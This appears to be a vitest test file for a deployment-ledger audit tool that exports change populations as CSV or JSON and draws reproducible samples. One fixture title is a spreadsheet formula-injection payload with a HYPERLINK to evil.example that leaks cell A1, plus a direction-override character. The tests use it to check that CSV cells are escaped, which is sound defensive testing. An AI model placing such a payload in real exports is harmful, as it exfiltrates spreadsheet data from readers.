import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { REPEAT_SAMPLE } from '../src/population/repeat-sample.ts';
import { COLUMNS } from '../src/population/table/columns.ts';
import { parseCsv } from '../src/population/testing/parse-csv.ts';
import { type Answer, answerOf } from './testing/answer.ts';
import { runCommand } from './testing/child.ts';
import { ENVIRONMENTS, NOW, tryDeploy } from './testing/deployed.ts';
import type { TestLedger } from './testing/test-ledger.ts';
import { useWorkspace } from './testing/workspace.ts';
import { type PopulationOptions, population } from './verbs/population.ts';
import { type SampleOptions, sample } from './verbs/sample.ts';
import { RepositoryBuilder } from './world/index.ts';

const space = useWorkspace();
const SAMPLE_LEDGER = path.resolve('content');
const YEARS = { from: '2025-01-01', to: '2026-12-31' };
/** A title that attacks spreadsheets, tables and readers. */
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click") | \u202e@SUM(1), "quoted"';

/** One person who deploys, and what a release needs. */
const PEOPLE = `timeZone: Asia/Kolkata
roles: [{ id: sre, name: SRE }]
roster:
  - person: sam-okoro
    accounts: [{ on: git, id: Sam Okoro }]
    roles: [{ role: sre, from: "2020-01-01" }]
`;

function tryPopulation(
  content: string,
  more: Partial<PopulationOptions> = {},
  json = false,
): Promise<Answer> {
  return answerOf((console) => population({ content, ...YEARS, ...more }, console), { json });
}

function trySample(content: string, more: Partial<SampleOptions> = {}, json = false): Promise<Answer> {
  const usual = { content, ...YEARS, seed: 'Q3 2026', size: '25' };
  return answerOf((console) => sample({ ...usual, ...more }, console), { json });
}

interface Told {
  query: { from: string; to: string; products: { product: string; environments: string[] }[] };
  count: number;
  rows: Record<string, string>[];
  digest: string;
}

async function told(content: string, more: Partial<PopulationOptions> = {}): Promise<Told> {
  return JSON.parse((await tryPopulation(content, more, true)).printed) as Told;
}

describe('the population of a small ledger', () => {
  let ledger: TestLedger;

  beforeAll(async () => {
    ledger = space.ledger('small');
    ledger.writePolicy(
      `  - { id: core, repository: ${ledger.repository}, tags: ["v{version}"] }`,
      `${PEOPLE}${ENVIRONMENTS}`,
    );
    const repo = new RepositoryBuilder();
    repo.commit({ message: 'feat: start (#1)' });
    repo.tag('v1.0.0');
    repo.commit({ message: `${HOSTILE}\n\nA body.` });
    repo.commit({ message: 'chore: sweep (#3)' });
    repo.tag('v1.1.0');
    repo.commit({ message: 'feat: wait for the next one (#4)' });
    await repo.write(ledger.repository);
    await ledger.harvest();
    await tryDeploy(ledger, { release: '1.0.0', at: '2026-02-03T10:00', by: 'sam-okoro' });
    await tryDeploy(ledger, { release: '1.1.0', at: '2026-02-03T17:00', by: 'sam-okoro', now: NOW });
    await tryDeploy(ledger, { release: '1.1.0', environment: 'staging', at: '2026-02-03T16:00', now: NOW });
  });

  test('has each change once, with the deployment to production that brought it', async () => {
    const { count, rows } = await told(ledger.content);
    expect(count).toBe(3);
    expect(rows.map(({ change, deployedAt }) => `${change} ${deployedAt}`)).toEqual([
      'core-1 2026-02-03T04:30:00+00:00',
      expect.stringMatching(/^core-[0-9a-f]{12} 2026-02-03T11:30:00\+00:00$/),
      'core-3 2026-02-03T11:30:00+00:00',
    ]);
    expect(rows.map(({ deployerPerson, deployerRoles }) => [deployerPerson, deployerRoles])).toEqual(
      rows.map(() => ['sam-okoro', 'sre']),
    );
  });

  test('says that what nobody was asked is unproven', async () => {
    const { rows } = await told(ledger.content);
    expect(rows[0]).toMatchObject({
      ...{ independent: 'unproven', approverPersons: 'unproven', tests: 'unproven', scan: 'unproven' },
      ...{ imageDeployed: 'unproven', tickets: 'unproven', releaseApprovedBeforeDeployment: 'no' },
    });
  });

  test('cannot be made to run in a spreadsheet, and reads in its own direction', async () => {
    const { printed } = await tryPopulation(ledger.content, { csv: true });
    const [head = [], ...rows] = parseCsv(printed);
    const titles = rows.map((row) => row[head.indexOf('title')]);
    // The harvest takes direction marks out of titles; cells spell out those that come in other ways.
    const safe = HOSTILE.replace('\u202e', '');
    expect(titles).toContain(`'${safe}`);
    expect((await told(ledger.content)).rows.map(({ title }) => title)).toContain(safe);
  });

  test('takes another environment where one is named', async () => {
    const { query, rows } = await told(ledger.content, { environment: 'staging' });
    expect(query.products).toEqual([{ product: 'core', environments: ['staging'] }]);
    expect(rows.map(({ change }) => change)).not.toContain('core-1');
  });

  test('reads days on the product’s clock, the last one whole, and times to the second', async () => {
    const counts = async (from: string, to: string) => (await told(ledger.content, { from, to })).count;
    expect(await counts('2026-02-03', '2026-02-03')).toBe(3);
    expect(await counts('2026-02-03', '2026-02-03T17:00')).toBe(1);
    expect(await counts('2026-02-03T10:01', '2026-02-03')).toBe(2);
    expect(await counts('2026-02-04', '2026-02-05')).toBe(0);
  });

  test.each([
    [{ from: '2026-02-05', to: '2026-02-03' }, 'the period ends at'],
    [{ from: '17:00' }, 'expected a day'],
    [{ to: 'soon' }, 'expected a day'],
    [{ product: 'nothing' }, 'there is no product "nothing"'],
    [{ environment: 'moon' }, 'has an environment "moon"'],
  ])('refuses %j', async (more, said) => {
    const answer = await tryPopulation(ledger.content, { ...more, csv: true });
    expect(answer).toMatchObject({ code: 2, printed: '' });
    expect(answer.said).toContain(said);
  });

  test('is set against the repositories where they are asked', async () => {
    const wide = { from: '2000-01-01', reconcile: true };
    const of = async (repositories: boolean) => {
      const { printed } = await tryPopulation(ledger.content, { ...wide, repositories }, true);
      const { findings } = JSON.parse(printed) as {
        findings: { kind: string; text: string; explained: object }[];
      };
      return findings.filter(({ kind }) => kind === 'change-not-released');
    };
    expect(await of(false)).toEqual([]);
    expect(await of(true)).toMatchObject([
      { text: 'core-4 was merged, and is in no release', explained: { by: 'open' } },
    ]);
  });

  test('does not take two forms at once', async () => {
    expect((await tryPopulation(ledger.content, { csv: true }, true)).code).toBe(2);
    expect((await trySample(ledger.content, { csv: true }, true)).code).toBe(2);
  });

  test('of a time without a deployment is empty, in every form', async () => {
    const none = { from: '2020-01-01', to: '2020-01-02' };
    expect(await told(ledger.content, none)).toMatchObject({ count: 0, rows: [] });
    expect(parseCsv((await tryPopulation(ledger.content, { ...none, csv: true })).printed)).toHaveLength(4);
    expect((await trySample(ledger.content, none)).printed).toContain('0 of 0');
  });
});

describe('the population of the sample ledger', () => {
  let csv: string;
  beforeAll(async () => {
    csv = (await tryPopulation(SAMPLE_LEDGER, { csv: true })).printed;
  });

  test('ends with its count, its query and the digest of every byte before', () => {
    const lines = csv.split('\r\n');
    const [count, query, digest] = lines.slice(-4, -1);
    const rows = lines.slice(1, -4);
    expect(lines.at(-1)).toBe('');
    expect(count).toBe(`# count: ${rows.length}`);
    expect(query).toMatch(
      /^# query: from=2024-12-31T18:30:00\+00:00 to=2026-12-31T18:30:00\+00:00 product=director /,
    );
    const before = csv.slice(0, csv.lastIndexOf('# digest'));
    expect(digest).toBe(`# digest: sha256:${createHash('sha256').update(before).digest('hex')}`);
  });

  test('is the same as JSON, cell by cell, guards aside', async () => {
    const { rows, digest, count } = await told(SAMPLE_LEDGER);
    const [head = [], ...all] = parseCsv(csv);
    const cells = all.slice(0, -3).map((row) => row.map((cell) => cell.replace(/^'/, '')));
    expect(head).toEqual(COLUMNS.map(({ name }) => name));
    expect(cells).toEqual(rows.map((row) => Object.values(row)));
    expect(count).toBe(rows.length);
    expect(csv).toContain(`# digest: ${digest}\r\n`);
  });

  test('has no row twice and no cell empty', () => {
    const rows = parseCsv(csv).slice(1, -3);
    expect(new Set(rows.map(([id]) => id)).size).toBe(rows.length);
    expect(rows.flat()).not.toContain('');
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([COLUMNS.length]));
  });

  test('tells of what is known of it: an emergency, a rollback, a failed attempt, a release that was passed over', async () => {
    const { rows } = await told(SAMPLE_LEDGER, { product: 'director' });
    const of = (release: string) => rows.filter((row) => row['release'] === release);
    expect(
      new Set(of('1.25.1').map(({ type, attempts }) => `${type} ${attempts?.includes('113300Z')}`)),
    ).toEqual(new Set(['emergency true']));
    expect(new Set(of('1.26.1').map(({ rolledBack }) => rolledBack))).toEqual(new Set(['yes']));
    expect(of('1.26.1').map(({ changeRelease }) => changeRelease)).toContain('1.26.0');
    expect(new Set(of('1.22.1').map(({ deployerPerson }) => deployerPerson))).toEqual(new Set(['unproven']));
  });

  test('has the same bytes in another time zone', async () => {
    const period = ['--from', YEARS.from, '--to', YEARS.to, '--csv'];
    const args = ['--content', SAMPLE_LEDGER, 'population', ...period];
    const run = (zone: string) => runCommand(args, { folder: space.root, environment: { TZ: zone } });
    const [west, east] = await Promise.all([run('America/St_Johns'), run('Pacific/Kiritimati')]);
    expect(west).toMatchObject({ code: 0, said: '' });
    expect(west.printed === csv && east.printed === csv).toBe(true);
  });

  test('is set against its sources: what does not match is told, and leads to a record', async () => {
    const answer = await tryPopulation(SAMPLE_LEDGER, { reconcile: true }, true);
    const { unexplained, findings } = JSON.parse(answer.printed) as {
      unexplained: number;
      findings: { kind: string; record: string; explained: { by: string } | null }[];
    };
    expect(answer.code).toBe(1);
    const open = findings.filter(({ explained }) => explained === null);
    expect(open).toHaveLength(unexplained);
    expect([...new Set(open.map(({ kind }) => kind))].sort()).toEqual([
      'change-not-merged',
      'deployer-unknown',
      'image-unrecorded',
      'records-begin',
      'revision-gap',
    ]);
    expect(new Set(findings.flatMap(({ explained }) => explained?.by ?? []))).toEqual(
      new Set(['superseded', 'prerelease', 'waiver']),
    );
    const words = (await tryPopulation(SAMPLE_LEDGER, { reconcile: true })).printed;
    expect(words).toContain(`Unexplained: ${unexplained}.`);
    expect(words).not.toContain('No unexplained rows');
  });

  test('says that nothing is unexplained only where nothing is', async () => {
    const week = { from: '2026-09-21', to: '2026-09-25', product: 'director' };
    const answer = await tryPopulation(SAMPLE_LEDGER, { ...week, reconcile: true });
    expect(answer).toMatchObject({ code: 0, printed: expect.stringContaining('No unexplained rows.') });
    const table = parseCsv((await tryPopulation(SAMPLE_LEDGER, { reconcile: true, csv: true })).printed);
    expect(new Set(table.map((row) => row.length))).toEqual(new Set([9]));
  });

  test('is told to a person in words', async () => {
    const { printed } = await tryPopulation(SAMPLE_LEDGER);
    expect(printed).toMatch(/^\d+ production changes \(from=/);
    expect(printed).toContain('approved on the deployed revision: ');
  });
});

describe('a sample', () => {
  test('is drawn again by anybody who has the population, with a shell', async () => {
    const folder = space.root;
    writeFileSync(
      path.join(folder, 'population.csv'),
      (await tryPopulation(SAMPLE_LEDGER, { csv: true })).printed,
    );
    const seed = 'Q3 "2026", =4711 ₹';
    const repeated = execFileSync('bash', ['-c', REPEAT_SAMPLE], {
      cwd: folder,
      env: { ...process.env, seed, size: '7' },
      encoding: 'utf8',
    });
    const [sum = '', ...drawn] = repeated.trim().split('\n');
    const { printed } = await trySample(SAMPLE_LEDGER, { seed, size: '7' });
    expect(printed.split('\n\n')[0]?.split('\n')).toEqual(drawn);
    expect(drawn).toHaveLength(7);
    expect(printed).toContain(`population: sha256:${sum.slice(0, 64)}\n`);
  });

  test('has the rows of the population with their hashes, and ends with what it was drawn from', async () => {
    const { rows, digest } = await told(SAMPLE_LEDGER);
    const csv = parseCsv((await trySample(SAMPLE_LEDGER, { size: '5', csv: true })).printed);
    expect(csv[0]?.slice(0, 2)).toEqual(['hash', 'row']);
    expect(csv.slice(-3)).toEqual([['# seed: Q3 2026'], [`# population: ${digest}`], ['# size: 5']]);
    const drawn = JSON.parse((await trySample(SAMPLE_LEDGER, { size: '5' }, true)).printed) as {
      rows: Record<string, string>[];
      seed: string;
      population: string;
      size: number;
    };
    expect(drawn).toMatchObject({ seed: 'Q3 2026', population: digest, size: 5 });
    for (const { hash, ...row } of drawn.rows) {
      expect(rows).toContainEqual(row);
      const text = `Q3 2026\n${digest}\n${row['row']}`;
      expect(hash).toBe(createHash('sha256').update(text).digest('hex'));
    }
    const hashes = drawn.rows.map(({ hash }) => hash);
    expect(hashes).toEqual([...hashes].sort());
    expect(csv.slice(1, -5).map(([hash]) => hash)).toEqual(hashes);
  });

  test('of more than there are is all of them', async () => {
    const { count } = await told(SAMPLE_LEDGER);
    expect((await trySample(SAMPLE_LEDGER, { size: '9999' })).printed).toContain(`${count} of ${count}\n`);
  });

  test.each([
    [{ seed: '' }, '--seed is empty'],
    [{ seed: 'a\nb' }, 'control characters'],
    [{ size: '0' }, 'expected a number of rows'],
    [{ size: '2.5' }, 'expected a number of rows'],
  ])('refuses %j', async (more, said) => {
    const answer = await trySample(SAMPLE_LEDGER, more);
    expect(answer.code).toBe(2);
    expect(answer.said).toContain(said);
  });

  test('tells in its help how to repeat it', async () => {
    const { code, printed } = await runCommand(['sample', '--help'], { folder: space.root });
    expect(code).toBe(0);
    expect(printed).toContain(REPEAT_SAMPLE);
  });
});
